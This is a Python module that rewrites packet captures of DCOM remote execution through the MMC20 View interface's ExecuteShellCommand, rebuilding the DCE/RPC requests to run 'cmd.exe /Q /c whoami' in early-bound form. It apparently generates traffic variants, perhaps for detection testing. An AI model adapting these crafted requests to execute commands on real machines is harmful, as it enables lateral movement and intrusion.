"""Says the call that executes something again as a client does that knows the interface's own methods.

Stdlib only. In place of the question for a DISPID the context of `View` is added; in place of
`Invoke` stands the method's number, with its parameters as [MS-OAUT] 2.2.23 writes strings.
"""

import struct
import uuid
from dataclasses import replace

VIEW = uuid.UUID("6efc2da2-b38c-457e-9abb-ed2d189b8c38")
NDR20 = uuid.UUID("8a885d04-1ceb-11c9-9fe8-08002b104860")
REQUEST, RESPONSE, ALTER_CONTEXT, ALTER_CONTEXT_RESPONSE = 0, 2, 14, 15
FIRST_AND_LAST, WITH_OBJECT = 3, 0x80
EXECUTE_SHELL_COMMAND = 33
CONTEXT = 1
OBJECT, ORPC_THIS = slice(24, 40), slice(40, 72)
ARGUMENTS = ("cmd.exe", "C:\\windows\\system32", "/Q /c whoami", "7")


def early_bound(packets):
    """The last question for a name and the call that follows it."""
    question, answer, call, result = execution(packets)
    ends = {packets[call].source, packets[call].target}
    made = {
        question: _offer(packets[question].payload),
        answer: _accepted(packets[answer].payload),
        call: _call(packets[call].payload),
        result: _result(packets[result].payload),
    }
    return with_payloads(packets, ends, made)


def execution(packets):
    """Where the last question for a name, its answer, the call that follows and its answer are."""
    name = "ExecuteShellCommand".encode("utf-16le")
    asked = next(i for i, packet in enumerate(packets) if name in packet.payload)
    ends = {packets[asked].source, packets[asked].target}
    turns = [
        i
        for i in range(asked, len(packets))
        if packets[i].payload and {packets[i].source, packets[i].target} == ends
    ]
    return turns[:4]


def with_payloads(packets, ends, made):
    """Other payloads in these packets of a connection; the numbers of those behind go along."""
    shift, out = dict.fromkeys(ends, 0), []
    for index, packet in enumerate(packets):
        if {packet.source, packet.target} != ends:
            out.append(packet)
            continue
        payload = made.get(index, packet.payload)
        out.append(
            replace(
                packet,
                seq=(packet.seq + shift[packet.source]) & 0xFFFFFFFF,
                ack=(packet.ack + shift[packet.target]) & 0xFFFFFFFF,
                payload=payload,
            )
        )
        shift[packet.source] += len(payload) - len(packet.payload)
    return out


def pdu(kind, flags, like, body):
    """A PDU of the same call as another."""
    (call_id,) = struct.unpack_from("<I", like, 12)
    head = struct.pack("<BBBBIHHI", 5, 0, kind, flags, 0x10, 16 + len(body), 0, call_id)
    return head + body


def _offer(like):
    transfer = NDR20.bytes_le + struct.pack("<I", 2)
    body = struct.pack("<HHIBBH", 4280, 4280, 0, 1, 0, 0)
    body += struct.pack("<HBB", CONTEXT, 1, 0) + VIEW.bytes_le + struct.pack("<I", 0) + transfer
    return pdu(ALTER_CONTEXT, FIRST_AND_LAST, like, body)


def _accepted(like):
    transfer = NDR20.bytes_le + struct.pack("<I", 2)
    body = struct.pack("<HHIHxx", 4280, 4280, 0, 0) + struct.pack("<BBHHH", 1, 0, 0, 0, 0)
    return pdu(ALTER_CONTEXT_RESPONSE, FIRST_AND_LAST, like, body + transfer)


def _call(like):
    stub = like[ORPC_THIS]
    for text in ARGUMENTS:
        units = text.encode("utf-16le")
        stub += b"\0" * (-len(stub) % 4) + b"User"
        stub += struct.pack("<III", len(text), len(units), len(text)) + units
    head = struct.pack("<IHH", len(stub), CONTEXT, EXECUTE_SHELL_COMMAND) + like[OBJECT]
    return pdu(REQUEST, FIRST_AND_LAST | WITH_OBJECT, like, head + stub)


def _result(like):
    stub = struct.pack("<III", 0, 0, 0)
    return pdu(RESPONSE, FIRST_AND_LAST, like, struct.pack("<IHBx", len(stub), CONTEXT, 0) + stub)
